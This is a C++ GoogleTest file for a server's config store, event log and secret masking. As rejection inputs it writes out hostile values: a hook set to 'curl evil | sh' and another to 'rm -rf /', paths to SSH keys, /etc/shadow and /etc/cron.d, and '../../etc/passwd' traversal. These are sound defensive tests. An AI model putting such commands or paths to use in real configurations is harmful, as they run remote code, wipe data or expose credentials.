// ConfigStore (what the panel's config editor and `config-*` commands do) against a real
// file: check-config's findings, the privileged-key rule, lost-update refusal, history
// and restore; and EventLog's numbering.
#include "server/config_store.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <fstream>

#include "../config/temp_dir.h"
#include "server/config_secrets.h"
#include "server/event_log.h"
#include "server/privileged_keys.h"

namespace qeli::server {
namespace {

constexpr char kBase[] =
    "# the operator's comment stays\n"
    "[auth]\n"
    "users_file = users.conf\n"
    "[profile:main]\n"
    "bind.port = 4433\n"
    "routing.post_up = /usr/local/bin/up.sh\n";

struct Fixture {
  Fixture() {
    path = dir.write("server.conf", kBase);
    dir.write("users.conf", "");
    ::chmod(path.c_str(), 0640);
  }
  std::string text() const {
    std::ifstream f(path);
    return {std::istreambuf_iterator<char>(f), {}};
  }
  test::TempDir dir;
  std::string path;
};

TEST(ConfigStore, ValidatesLikeCheckConfig) {
  Fixture f;
  ConfigStore store(f.path);
  auto v = store.validate(kBase);
  EXPECT_TRUE(v.ok);
  v = store.validate(std::string(kBase) + "tun.mtu = 1400 # max\n");
  EXPECT_FALSE(v.ok);
  ASSERT_FALSE(v.findings.empty());
  EXPECT_EQ(v.findings[0].severity, "error");
  EXPECT_EQ(v.findings[0].key, "tun.mtu");
  v = store.validate(std::string(kBase) + "tun.mtuu = 1400\n");
  EXPECT_FALSE(v.ok) << "an unknown key blocks as in check-config";
}

TEST(ConfigStore, RefusesHooksAndPaths) {
  Fixture f;
  ConfigStore store(f.path);
  std::string t = kBase;
  // Changing the hook, removing it, adding one, or pointing a path elsewhere: refused.
  for (const std::string& edit :
       {std::string("routing.post_up = /usr/local/bin/up.sh\n"), std::string("")}) {
    std::string changed = t;
    changed.replace(changed.find("routing.post_up"),
                    std::string("routing.post_up = /usr/local/bin/up.sh\n").size(),
                    edit.empty() ? "" : "routing.post_up = curl evil | sh\n");
    auto v = store.validate(changed);
    EXPECT_FALSE(v.ok) << changed;
  }
  for (const char* extra :
       {"routing.post_down = rm -rf /\n", "identity_key = /root/.ssh/id_ed25519\n"}) {
    auto v = store.validate(t + std::string(extra));
    EXPECT_FALSE(v.ok) << extra;
    bool named = false;
    for (const auto& x : v.findings)
      named |= x.message.find("hooks, file paths") != std::string::npos;
    EXPECT_TRUE(named) << extra;
  }
  auto v = store.validate(t + "[logging]\nfile = /etc/cron.d/x\n");
  EXPECT_FALSE(v.ok);
  v = store.validate(t + "[logging]\nfile = /var/log/qeli/../../etc/x\n");
  EXPECT_FALSE(v.ok);
  // An allowed place is not refused as a path (the [logging] check may still say that
  // /var/log/qeli does not exist on this machine: that is check-config's business).
  v = store.validate(t + "[logging]\nfile = /var/log/qeli/server.log\n");
  for (const auto& x : v.findings) {
    EXPECT_EQ(x.message.find("hooks, file paths"), std::string::npos) << x.text;
  }
  v = store.validate("[auth]\nusers_file = /etc/shadow\n" + t.substr(t.find("[profile")));
  EXPECT_FALSE(v.ok);
}

TEST(ConfigStore, SavesWithHistoryAndRefusesLostUpdates) {
  Fixture f;
  ConfigStore store(f.path);
  auto cur = store.read();
  ASSERT_TRUE(cur.ok());
  const std::string edited = std::string(kBase) + "tun.mtu = 1300\n";
  auto bad = store.save({edited, "0000", "alice"});
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, control::ErrorCode::kConflict);
  auto invalid = store.save({edited + "tun.mtu = 1\n", cur->sha256, "alice"});
  ASSERT_FALSE(invalid.ok());
  EXPECT_EQ(invalid.error().code, control::ErrorCode::kInvalid);
  EXPECT_EQ(f.text(), kBase) << "a refused save changes nothing";

  auto ok = store.save({edited, cur->sha256, "alice"});
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  EXPECT_EQ(f.text(), edited);
  struct stat st {};
  ::stat(f.path.c_str(), &st);
  EXPECT_EQ(st.st_mode & 0777, 0640U) << "the file keeps its mode";
  const auto h = store.history();
  ASSERT_EQ(h.versions.size(), 1U);
  EXPECT_EQ(h.versions[0].id, ok->history_id);
  EXPECT_EQ(h.versions[0].actor, "alice");
  auto old = store.version(ok->history_id);
  ASSERT_TRUE(old.ok());
  EXPECT_EQ(old->text, kBase);
  // Restore = save the old text on top of the current one.
  auto restored = store.save({old->text, ok->sha256, "bob"});
  ASSERT_TRUE(restored.ok());
  EXPECT_EQ(f.text(), kBase);
  EXPECT_EQ(store.history().versions.size(), 2U);
  EXPECT_FALSE(store.version("../../etc/passwd").ok());
}

TEST(EventLog, NumbersKeepsOrderAndForgetsTheOldest) {
  EventLog log;
  auto ev = [](const char* type) {
    control::Event e;
    e.type = type;
    return e;
  };
  for (int i = 0; i < 5; ++i) log.push(ev("session.connected"));
  auto all = log.since(0, 100);
  ASSERT_EQ(all.events.size(), 5U);
  EXPECT_EQ(all.events.front().seq, 1U);
  EXPECT_EQ(all.last_seq, 5U);
  EXPECT_EQ(log.since(3, 100).events.size(), 2U);
  EXPECT_EQ(log.since(0, 2).events.back().seq, 2U);
  EXPECT_EQ(log.since(5, 100).events.size(), 0U);
  for (std::size_t i = 0; i < EventLog::kCapacity + 10; ++i) log.push(ev("x"));
  all = log.since(0, 1000);
  EXPECT_EQ(all.events.front().seq, 5U + 10U + 1U);
  EXPECT_EQ(all.boot.size(), 16U);
}

TEST(ConfigSecrets, HideAndRestoreOnlyTheWebTotpSecret) {
  const std::string file =
      "[web]\n# totp_secret = COMMENTED\ntotp_secret = GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ\n"
      "[profile:p]\ntotp_secret = NOT-THE-PANELS\n";
  const std::string shown = hide_secrets(file);
  EXPECT_EQ(shown,
            "[web]\n# totp_secret = COMMENTED\ntotp_secret = (hidden)\n"
            "[profile:p]\ntotp_secret = NOT-THE-PANELS\n");
  EXPECT_EQ(restore_secrets(shown, file), file);
  // Another value stays (the privileged-key rule refuses it); no secret in the file: the
  // placeholder stays (and check-config refuses it).
  const std::string other = "[web]\ntotp_secret = MZXW6YTBOI\n";
  EXPECT_EQ(restore_secrets(other, file), other);
  EXPECT_EQ(restore_secrets(shown, "[web]\n"), shown);
  EXPECT_TRUE(has_hidden_secret(shown));
  EXPECT_FALSE(has_hidden_secret(file));
}

TEST(ConfigSecrets, EverySpellingTheReaderTakesIsHidden) {
  const std::string secret = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ";
  for (const std::string& file : {"[ web ]\ntotp_secret = " + secret + "\n",
                                  "[web] ; the panel\ntotp_secret=" + secret + "\n",
                                  "\xEF\xBB\xBF[web]\ntotp_secret: " + secret + "\n",
                                  "[web]\n  totp_secret = \"" + secret + "\"  \n",
                                  "[web]\r\ntotp_secret = " + secret + "\r\n"}) {
    SCOPED_TRACE(file);
    const std::string shown = hide_secrets(file);
    EXPECT_EQ(shown.find(secret), std::string::npos) << shown;
    EXPECT_TRUE(has_hidden_secret(shown));
    // Back with the real value; a CRLF line keeps its CR.
    const std::string back = restore_secrets(shown, file);
    EXPECT_NE(back.find("totp_secret = " + secret), std::string::npos) << back;
    EXPECT_EQ(back.find("\r") != std::string::npos, file.find("\r") != std::string::npos);
    EXPECT_EQ(restore_secrets(back, file), back);
  }
}

TEST(ConfigStore, NeverShowsTheTotpSecretAndSavesAroundIt) {
  Fixture fx;
  const std::string secret = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ";
  std::ofstream(fx.path, std::ios::app) << "[web]\ntotp_secret = " << secret << "\n";
  ConfigStore store(fx.path, fx.dir.path() + "/history");
  const auto cur = store.read();
  ASSERT_TRUE(cur.ok());
  EXPECT_EQ(cur->text.find(secret), std::string::npos);
  EXPECT_NE(cur->text.find("totp_secret = (hidden)"), std::string::npos);
  // The editor's text comes back with the placeholder: valid, saved with the real secret.
  EXPECT_TRUE(store.validate(cur->text).ok);
  const std::string edited = cur->text + "# an edit\n";
  auto saved = store.save({edited, cur->sha256, "panel:admin"});
  ASSERT_TRUE(saved.ok()) << saved.error().message;
  EXPECT_NE(fx.text().find("totp_secret = " + secret), std::string::npos);
  EXPECT_NE(fx.text().find("# an edit"), std::string::npos);
  // The kept version hides it too; removing or replacing it is refused.
  const auto old = store.version(saved->history_id);
  ASSERT_TRUE(old.ok());
  EXPECT_EQ(old->text.find(secret), std::string::npos);
  const auto again = store.read();
  std::string removed = again->text;
  removed.erase(removed.find("totp_secret = (hidden)\n"),
                std::string("totp_secret = (hidden)\n").size());
  EXPECT_FALSE(store.validate(removed).ok);
  std::string swapped = again->text;
  swapped.replace(swapped.find("(hidden)"), 8, "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43U");
  EXPECT_FALSE(store.validate(swapped).ok);
}

TEST(PrivilegedKeys, NamesHooksCommandsAndPaths) {
  for (const char* k : {"routing.post_up", "routing.post_down", "password_command", "users_file",
                        "identity_key", "file", "tls_cert", "tls_key", "state_dir", "dns.hook",
                        "outbox", "state_db", "secret_file"}) {
    EXPECT_TRUE(is_privileged_key("x", k)) << k;
  }
  for (const char* k : {"tun.mtu", "bind.port", "obf.mode", "max_sessions", "enabled"}) {
    EXPECT_FALSE(is_privileged_key("x", k)) << k;
  }
  // The config owner's credentials: a stolen session, or a further owner without them,
  // cannot turn the second factor off, swap the password or take the name.
  EXPECT_TRUE(is_privileged_key("web", "totp_secret"));
  EXPECT_TRUE(is_privileged_key("web", "password_hash"));
  EXPECT_TRUE(is_privileged_key("web", "username"));
  // Only the panel's own: a user's password_hash is the users file's business.
  EXPECT_FALSE(is_privileged_key("user:alice", "password_hash"));
  EXPECT_FALSE(is_privileged_key("web", "session_ttl_secs"));
}

}  // namespace
}  // namespace qeli::server
